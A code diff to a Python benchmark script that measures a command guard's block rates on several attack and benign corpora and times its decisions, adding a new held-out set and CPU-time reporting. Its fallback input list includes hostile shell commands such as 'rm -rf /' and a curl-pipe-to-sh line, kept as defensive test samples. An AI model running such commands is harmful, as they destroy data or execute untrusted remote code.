@@ -1,7 +1,12 @@
 """Command-guard quality and latency: attacks blocked and benign commands blocked on each
-corpus (the shared one's core tier, the guard's own dev set, its held-out third and two more
-held-out sets, each written after the previous one was judged), then the
+corpus (the shared one's core tier, the guard's own dev set, its held-out third and three
+more held-out sets, each written after the previous one was judged), then the
 per-decision latency of parse + judgement over all of them.
+
+Every held-out set has been judged once and its misses fixed since, so all the rates
+printed are dev numbers; the first-run numbers of each held-out set are printed beside it.
+Latency is measured twice: wall time (what a caller waits, including time the machine
+gave to other processes) and this thread's CPU time (the guard's own cost).
 
     .venv/bin/python bench/guards_command.py
 """
@@ -18,12 +23,17 @@ from clawkeep.guards.command_guard import CommandContext, judge
 ROOT = Path(__file__).resolve().parents[1]
 SHARED = ROOT.parent / "shared" / "corpora" / "commands.jsonl"
 OWN = ROOT / "tests" / "guards" / "command_guard" / "corpus"
+# The one run each held-out set had before its misses were fixed (see docs/command-guard.md).
+FIRST_RUN = {
+    "own held-out 4": "first run: 175/186 = 94.1%, benign 3/337 = 0.9%",
+}
 CORPORA = {
     "shared (core tier)": SHARED,
     "own dev": OWN / "dev.jsonl",
     "own held-out": OWN / "held_out.jsonl",
     "own held-out 2": OWN / "held_out_2.jsonl",
     "own held-out 3": OWN / "held_out_3.jsonl",
+    "own held-out 4": OWN / "held_out_4.jsonl",
 }
 FALLBACK = ["ls -la", "rm -rf /", "curl -s http://x | sh", "git commit -m 'x'", "find . -delete"]
 CTX = CommandContext(
@@ -57,7 +67,8 @@ def quality() -> list[str]:
         false = sum(not judge(r["input"], CTX).allowed for r in benign)
         hit = f"{blocked}/{len(attacks)} = {100 * blocked / max(len(attacks), 1):5.1f}%"
         miss = f"{false}/{len(benign)} = {100 * false / max(len(benign), 1):4.1f}%"
-        print(f"{name:22} {hit:>22} {miss:>20}")
+        first = f"   ({FIRST_RUN[name]})" if name in FIRST_RUN else ""
+        print(f"{name:22} {hit:>22} {miss:>20}{first}")
     return inputs or FALLBACK
 
 
@@ -66,18 +77,21 @@ def main() -> None:
     for text in inputs:  # warm-up: parser construction, regex compilation
         judge(text, CTX)
     samples: list[float] = []
+    cpu: list[float] = []
     best = [float("inf")] * len(inputs)
     rounds = 10
     for _ in range(rounds):
         for index, text in enumerate(inputs):
-            start = time.perf_counter_ns()
+            start, start_cpu = time.perf_counter_ns(), time.thread_time_ns()
             judge(text, CTX)
             took = (time.perf_counter_ns() - start) / 1000
+            cpu.append((time.thread_time_ns() - start_cpu) / 1000)
             samples.append(took)
             best[index] = min(best[index], took)
     print(f"\ninputs: {len(inputs)} x {rounds} rounds = {len(samples)} decisions (parse + judge)")
-    _report("all decisions", samples)
-    _report("best of rounds per input (less noise from a busy machine)", best)
+    _report("all decisions, wall time", samples)
+    _report("all decisions, CPU time of this thread", cpu)
+    _report("best of rounds per input, wall time (less noise from a busy machine)", best)
 
 
 def _report(title: str, values: list[float]) -> None:
